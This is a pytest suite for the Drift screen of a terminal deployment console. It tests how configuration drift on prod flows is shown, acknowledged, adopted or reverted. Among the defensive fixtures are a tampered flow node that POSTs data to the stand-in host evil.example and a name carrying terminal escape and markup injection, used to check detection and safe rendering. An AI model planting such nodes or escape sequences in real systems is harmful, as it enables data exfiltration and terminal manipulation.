from __future__ import annotations

import json
import os
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from console_scene import screen_text
from screens_scene import SIZES, DemoDesk, armed, bare, frame_of, open_demo, said, settled, until
from textual.pilot import Pilot

from console.presentation.activity import sentence
from console.presentation.spans import plain
from console.screen import Place
from console.screen.desk import Desk
from console.screen.entry_dialog import EntryDialog
from console.screen.request_form import RequestForm
from console.screen.rollback_dialog import ConfirmRollback
from console.screens.drift import Drift
from console.widgets import keyed_table
from console.widgets.dialogs import Ask
from console.widgets.diff_view import DiffView
from console.widgets.keyed_table import KeyedTable
from console.widgets.text_view import Facts
from console.widgets.three_versions import ThreeVersions
from console.widgets.three_way_view import ThreeWayView
from store.demo.samples import crm_sync, orders
from store.projections import drifts, requests
from store.services.drift import drifting
from store.services.exports import watching

DRIFT = Place(key="4", id="drift", title="Drift", factory=Drift, subjects=("DR-",))


@pytest.fixture
def juno(demo: Path, tmp_path: Path) -> Iterator[DemoDesk]:
    """The demo as juno, who only audits, sees it."""
    opened = open_demo(demo, tmp_path / "demo", "juno")
    yield opened
    opened.desk.context.ledger.close()


def pane(pilot: Pilot[Any]) -> Drift:
    return pilot.app.query_one(Drift)


def table(pilot: Pilot[Any]) -> KeyedTable:
    return pilot.app.query_one("#drifts", KeyedTable)


def headline(pilot: Pilot[Any]) -> str:
    return str(pilot.app.query_one("#headline", Facts).render())


def observe(mira: DemoDesk, project: str, name: str, data: bytes) -> None:
    """Let the platform's export arrive in observed/, a while ago, and be taken in."""
    path = mira.root / "observed" / "prod" / project / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    os.utime(path, (path.stat().st_atime - 60, path.stat().st_mtime - 60))
    watching.once(mira.desk.context)


def row(mira: DemoDesk, drift: str) -> drifts.DriftRow:
    with mira.desk.context.ledger.reading() as connection:
        found = drifts.one(connection, drift)
    assert found is not None
    return found


@pytest.mark.parametrize("size", SIZES)
def test_the_list_and_three_versions(snap_compare: Any, mira: DemoDesk, size: tuple[int, int]) -> None:
    assert snap_compare(bare(mira.desk, DRIFT), terminal_size=size, run_before=settled)


@pytest.mark.parametrize("size", SIZES)
def test_one_comparison_with_all_the_room(snap_compare: Any, mira: DemoDesk, size: tuple[int, int]) -> None:
    async def look(pilot: Pilot[Any]) -> None:
        await settled(pilot)
        await pilot.press("d")
        await settled(pilot)

    assert snap_compare(bare(mira.desk, DRIFT), terminal_size=size, run_before=look)


async def test_the_first_line_says_what_is_wrong_and_what_to_press(mira: DemoDesk) -> None:
    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
        await settled(pilot)
        assert headline(pilot).startswith("! 1 open drift on prod, 1 already answered")
        assert "R reverts" in headline(pilot)
        assert "u adopts" in headline(pilot)


@pytest.mark.parametrize("size", [(60, 20), (80, 24), (119, 30), (120, 30), (200, 50)])
async def test_every_size_shows_the_list_and_what_changed(mira: DemoDesk, size: tuple[int, int]) -> None:
    async with bare(mira.desk, DRIFT).run_test(size=size) as pilot:
        await settled(pilot)
        assert table(pilot).visible_rows() >= 2
        words = pilot.app.query_one("#live-words")
        assert words.size.height >= 2
        three, text = pilot.app.query_one(ThreeWayView), pilot.app.query_one(DiffView)
        assert three.is_on_screen if size[0] >= 120 else text.is_on_screen


async def test_d_turns_from_comparison_to_comparison_and_esc_comes_back(mira: DemoDesk) -> None:
    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
        await settled(pilot)
        shown = []
        for _ in range(4):
            await pilot.press("d")
            await settled(pilot)
            shown.append(pilot.app.query_one(ThreeVersions).full)
        assert shown == ["three", "live", "last", ""]
        assert table(pilot).has_focus
        await pilot.press("d", "escape")
        await settled(pilot)
        assert pilot.app.query_one(ThreeVersions).full == ""
        assert table(pilot).has_focus


async def test_acknowledging_asks_for_a_note_and_records_it(mira: DemoDesk) -> None:
    async with bare(mira.desk, DRIFT).run_test(size=(100, 30)) as pilot:
        await settled(pilot)
        await pilot.press("A")
        await until(pilot, lambda: isinstance(pilot.app.screen, Ask))
        await pilot.press("enter")  # no note, no answer
        assert isinstance(pilot.app.screen, Ask)
        await pilot.press(*"known", "enter")
        await until(pilot, lambda: "acknowledged DR-0002: entry " in said(pilot))
        await settled(pilot)
        assert "no open drift" in headline(pilot)
    assert (row(mira, "DR-0002").status, row(mira, "DR-0002").note) == ("acknowledged", "known")


@pytest.mark.presses(Drift="u")
async def test_adopting_opens_a_request_that_asks_to_keep_it(mira: DemoDesk) -> None:
    async with bare(mira.desk, DRIFT).run_test(size=(100, 30)) as pilot:
        await settled(pilot)
        await pilot.press("u")
        await until(pilot, lambda: isinstance(pilot.app.screen, Ask))
        await pilot.press("enter")  # the title that stands there will do
        await settled(pilot)
        await pilot.press(*"finance", "enter")
        await until(pilot, lambda: "CR-0012 asks to keep DR-0002" in said(pilot))
        await settled(pilot)
        await pilot.press("u")
        await pilot.pause()
        assert "CR-0012 asks to keep it already" in said(pilot)
    with mira.desk.context.ledger.reading() as connection:
        content = requests.content(connection, "CR-0012")
    assert content is not None
    assert (content.title, content.why) == ("Keep Refunds as it is live", "finance")
    assert row(mira, "DR-0002").status == "adopted"


async def test_what_policy_asks_for_besides_is_stated_in_the_form_before_it_is_adopted(mira: DemoDesk) -> None:
    strict = replace(mira.desk.context.policy, mandatory=("title", "why", "impact"))
    desk = Desk(mira.desk.context.under(strict), mira.actor("mira"))
    async with bare(desk, DRIFT).run_test(size=(100, 40)) as pilot:
        await settled(pilot)
        await pilot.press("u")
        await until(pilot, lambda: isinstance(pilot.app.screen, Ask))
        await pilot.press("enter")
        await settled(pilot)
        await pilot.press(*"finance", "enter")
        await until(pilot, lambda: isinstance(pilot.app.screen, RequestForm))
        await settled(pilot)
        assert "the request does not state what it must: --impact" in screen_text(pilot.app)
        await pilot.press(*["tab"] * 3, *"the shop", "ctrl+t")
        await until(pilot, lambda: row(mira, "DR-0002").status == "adopted")
    with mira.desk.context.ledger.reading() as connection:
        content = requests.content(connection, row(mira, "DR-0002").note)
    assert content is not None
    assert (content.why, content.impact) == ("finance", "the shop")


@pytest.mark.presses(Ask="escape")
async def test_leaving_a_question_changes_nothing_and_says_so(mira: DemoDesk) -> None:
    before = mira.desk.context.ledger.head().size
    async with bare(mira.desk, DRIFT).run_test(size=(100, 30)) as pilot:
        await settled(pilot)
        for key, words in (("A", "not acknowledged"), ("u", "not adopted")):
            await pilot.press(key)
            await until(pilot, lambda: isinstance(pilot.app.screen, Ask))
            await pilot.press("escape")
            await settled(pilot)
            assert f"{words}; nothing was changed" in said(pilot)
    assert mira.desk.context.ledger.head().size == before


@pytest.mark.presses(Drift="R")
async def test_reverting_pushes_the_desired_release_over_it(mira: DemoDesk) -> None:
    async with bare(mira.desk, DRIFT).run_test(size=(100, 30)) as pilot:
        await settled(pilot)
        await pilot.press("R")
        await until(pilot, lambda: isinstance(pilot.app.screen, ConfirmRollback))
        await armed(pilot)
        facts = "\n".join(str(found.render()) for found in pilot.app.screen.query(Facts))
        assert "the desired release" in facts
        assert "stale" not in facts  # the base of every request stays what it is
        await pilot.press(*"prod", "enter", *"nobody", "enter")
        await until(pilot, lambda: "verified DEP-0012" in said(pilot))
        assert "DR-0002 ends when live is seen again" in said(pilot)
        assert (mira.root / "out/prod/orders/flows.json").read_bytes() == orders(3)
        told = [
            plain(sentence(e))
            for e in mira.desk.context.ledger.entries()
            if e.statement.on.get("deployment") == "DEP-0012"
        ]
        assert told[0] == "◀ mira puts prod/orders back to what it should be: nobody"
        assert told[-1] == "● prod/orders DEP-0012 verified, its release is live"
        observe(mira, "orders", "flows.json", orders(3))
        await until(pilot, lambda: "no open drift" in headline(pilot))
        assert table(pilot).key == "DR-0002"  # it ended, and the cursor is still on it
        await armed(pilot)
        await pilot.press("R")
        await pilot.pause()
        assert "DR-0002 ended already: live equals desired again" in said(pilot)


async def test_acts_that_make_no_sense_are_not_offered_and_say_why(mira: DemoDesk) -> None:
    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
        await settled(pilot)
        await pilot.press("j")
        assert table(pilot).key == "DR-0001"
        assert pane(pilot).why_not("acknowledge") == (
            "acknowledged already: “sales asked by phone; request follows”\n→ revert or adopt it"
        )
        assert pane(pilot).why_not("revert") is None


async def test_who_may_not_is_told_who_could(juno: DemoDesk) -> None:
    async with bare(juno.desk, DRIFT).run_test(size=(100, 30)) as pilot:
        await settled(pilot)
        for key in ("R", "A", "u"):
            await pilot.press(key)
            await pilot.pause()
            assert "juno may not" in said(pilot)
            assert "→ mira could do it" in said(pilot)


async def test_without_a_key_everything_is_shown_and_nothing_can_be_done(stranger: DemoDesk) -> None:
    async with bare(stranger.desk, DRIFT).run_test(size=(100, 30)) as pilot:
        await settled(pilot)
        assert [found.key for found in table(pilot).rows] == ["DR-0002", "DR-0001"]
        await pilot.press("R")
        await pilot.pause()
        assert "read only: no key is named" in said(pilot)


async def test_a_drift_that_opens_appears_by_itself_and_the_cursor_stays(mira: DemoDesk) -> None:
    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
        await settled(pilot)
        await pilot.press("j")
        assert table(pilot).key == "DR-0001"
        tampered = orders(3, tampered=True).replace(b"/orders", b"/steal")
        observe(mira, "orders", "flows.json", tampered)
        await until(pilot, lambda: len(table(pilot).rows) == 3)
        assert table(pilot).key == "DR-0001"
        assert table(pilot).cursor == 2
        assert "2 open drifts on prod" in headline(pilot)


async def test_the_row_under_the_cursor_moved_so_acts_wait(mira: DemoDesk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(keyed_table, "ARMING_SECONDS", 3_600.0)  # a busy machine may press the key much later
    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
        await settled(pilot)
        await pilot.press("j")
        table(pilot)._table_clock = lambda: 100.0  # time stands still: rows that moved have just moved
        tampered = orders(3, tampered=True).replace(b"/orders", b"/steal")
        observe(mira, "orders", "flows.json", tampered)
        await until(pilot, lambda: len(table(pilot).rows) == 3)
        await pilot.press("R")
        await pilot.pause()
        assert "the list has just moved" in said(pilot)


async def test_a_component_that_nobody_asked_for_is_compared_with_nothing(mira: DemoDesk) -> None:
    observe(mira, "crm", "second.json", crm_sync(1).replace(b"Qd7vKx2pTn4mLw8s", b"Zz7vKx2pTn4mLw8z"))
    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
        await settled(pilot)
        assert table(pilot).key == "DR-0003"
        text = pilot.app.query_one(DiffView)
        assert text.is_on_screen
        assert not pilot.app.query_one(ThreeWayView).display
        assert text.diff.removed == 0
        assert text.diff.added > 10


async def test_another_screen_opens_a_drift_by_its_id(mira: DemoDesk) -> None:
    async with bare(mira.desk, DRIFT).run_test(size=(100, 30)) as pilot:
        await settled(pilot)
        await pilot.press("colon", *"DR-0001", "enter")
        await settled(pilot)
        assert table(pilot).key == "DR-0001"
        assert pane(pilot).crumbs == ("DR-0001",)
        assert "crm-sync" in str(pilot.app.query_one("#about", Facts).render())


@pytest.mark.presses(Drift="e")
async def test_e_shows_the_entry_and_y_copies_the_id(mira: DemoDesk) -> None:
    async with bare(mira.desk, DRIFT).run_test(size=(100, 30)) as pilot:
        await settled(pilot)
        await pilot.press("y")
        await pilot.pause()
        assert "copied  DR-0002" in said(pilot)
        await pilot.press("e")
        await until(pilot, lambda: isinstance(pilot.app.screen, EntryDialog))
        await pilot.press("escape")


@pytest.mark.presses(Drift="i")
async def test_i_opens_an_incident_about_the_place_of_the_drift(mira: DemoDesk) -> None:
    async with bare(mira.desk, DRIFT).run_test(size=(100, 30)) as pilot:
        await settled(pilot)
        await pilot.press("i")
        await until(pilot, lambda: "Incident on prod/orders" in screen_text(pilot.app))
        await armed(pilot)
        await pilot.press("enter")
        await armed(pilot)
        await pilot.press(*"refunds", "enter")
        await until(pilot, lambda: "opened INC-0002" in said(pilot))


@pytest.mark.presses(Drift="t")
async def test_t_goes_to_replay_at_the_entry_that_opened_it(mira: DemoDesk) -> None:
    opened: list[str] = []

    class Replay(Drift):
        def open(self, subject: str) -> None:
            opened.append(subject)

    replay = Place(key="5", id="replay", title="Replay", factory=Replay)
    async with bare(mira.desk, DRIFT, replay).run_test(size=(100, 30)) as pilot:
        await settled(pilot)
        await pilot.press("t")
        await settled(pilot)
        front = frame_of(pilot).pane
        assert front is not None
        assert front.id == "replay"
    assert opened == [str(row(mira, "DR-0002").opened_seq)]


async def test_names_from_outside_are_shown_safe(mira: DemoDesk) -> None:
    hostile = crm_sync(2).replace(b'"crm-sync"', b'"[/] \\u001b]52;c;x \\u202egnp [@click=app.quit]x[/]"')
    observe(mira, "crm", "crm-sync.json", hostile)
    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
        await settled(pilot)
        await pilot.press("d", "d")
        await settled(pilot)
        svg = pilot.app.export_screenshot()
    assert "\x1b" not in svg
    assert "\u202e" not in svg


async def test_when_nothing_drifts_the_screen_says_so(mira: DemoDesk) -> None:
    observe(mira, "orders", "flows.json", orders(3))
    observe(mira, "crm", "crm-sync.json", crm_sync(2))
    async with bare(mira.desk, DRIFT).run_test(size=(100, 30)) as pilot:
        await settled(pilot)
        assert "✓ no drift" in headline(pilot)
        assert [found.key for found in table(pilot).rows] == ["DR-0002", "DR-0001"]
    assert drifting.standing(mira.desk.context.ledger, "prod", "orders") == {}


async def test_what_the_unauthorised_change_reaches_stands_on_top(mira: DemoDesk) -> None:
    nodes = json.loads(orders(3, tampered=True))
    refunds = next(node for node in nodes if node.get("id") == "0b02")
    refunds["wires"] = [["0bff"], refunds["wires"][1]]
    nodes.append(
        {"id": "0bff", "type": "http request", "z": refunds["z"], "name": "Send it out", "method": "POST",
         "url": "https://evil.example/in", "x": 1, "y": 1, "wires": [["0b03"]]}
    )  # fmt: skip
    observe(mira, "orders", "flows.json", json.dumps(nodes).encode())
    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
        await settled(pilot)
        told = str(pilot.app.query_one("#drift-impact", Facts).render())
        assert "wider" in told
        assert "host evil.example is new" in told


@pytest.mark.presses(Drift="d")
async def test_the_comparison_one_looked_at_comes_first_the_next_time(mira: DemoDesk) -> None:
    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
        await settled(pilot)
        versions = pilot.app.query_one(ThreeVersions)
        await pilot.press("d", "d")
        await settled(pilot)
        assert versions.full == mira.desk.views.comparison == "live"
        await pilot.press("escape", "d")
        await settled(pilot)
        assert versions.full == "live"
    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
        await settled(pilot)
        turned = []
        for _ in range(4):
            await pilot.press("d")
            await settled(pilot)
            turned.append(pilot.app.query_one(ThreeVersions).full)
        assert turned == ["live", "last", "three", ""]
